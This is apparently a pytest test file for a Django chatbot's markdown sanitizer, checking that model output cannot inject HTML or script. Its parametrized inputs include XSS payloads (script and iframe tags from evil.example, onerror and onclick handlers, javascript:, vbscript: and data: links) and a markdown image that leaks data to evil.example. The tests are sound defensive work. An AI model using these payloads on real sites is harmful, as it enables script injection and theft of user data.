from __future__ import annotations

import pytest
from django.template import Context, Template

from chatbot.chat.markdown import render_markdown, sanitize_html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "Hello <script src='https://evil.example/x.js'></script>",
        "<img src=x onerror=alert(1)>",
        '<a href="https://example.com" onclick="steal()">link</a>',
        "<iframe src='https://evil.example'></iframe>",
        "<style>body{display:none}</style>",
    ],
)
def test_it_never_lets_raw_html_through(text: str) -> None:
    html = render_markdown(text)
    assert "<script" not in html and "<img" not in html and "<iframe" not in html
    assert "<style" not in html and "<a " not in html


@pytest.mark.parametrize(
    "text",
    [
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click](vbscript:msgbox(1))",
        "<javascript:alert(1)>",
    ],
)
def test_it_drops_dangerous_link_schemes(text: str) -> None:
    html = render_markdown(text).lower()
    assert 'href="javascript:' not in html
    assert 'href="data:' not in html and 'href="vbscript:' not in html


def test_it_keeps_basic_formatting() -> None:
    html = render_markdown(
        "# Title\n\n**bold** and *italic* and `code`\n\n- one\n- two\n\n1. first\n\n"
        "> quoted\n\n```\nx < 1\n```\n\n[docs](https://example.com/help)\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n"
    )
    for fragment in [
        "<h1>Title</h1>",
        "<strong>bold</strong>",
        "<em>italic</em>",
        "<code>code</code>",
        "<li>one</li>",
        "<ol>",
        "<blockquote>",
        "<pre><code>x &lt; 1",
        '<a href="https://example.com/help" rel="noopener noreferrer nofollow">docs</a>',
        "<table>",
        "<td>1</td>",
    ]:
        assert fragment in html, fragment


def test_it_does_not_load_images_from_model_output() -> None:
    html = render_markdown("![pixel](https://evil.example/leak?data=secret)")
    assert "<img" not in html


def test_it_strips_event_handlers_from_html_it_did_not_make() -> None:
    cleaned = sanitize_html('<p onmouseover="x()">hi <a href="javascript:y()">a</a></p>')
    assert "onmouseover" not in cleaned and "javascript:" not in cleaned
    assert cleaned.startswith("<p>hi")


def test_it_renders_nothing_for_empty_text() -> None:
    assert render_markdown("") == ""


def test_it_offers_a_template_filter() -> None:
    template = Template("{% load markdown_extras %}{{ text|markdown }}")
    html = template.render(Context({"text": "**hi** <b>x</b>"}))
    assert "<strong>hi</strong>" in html and "&lt;b&gt;" in html
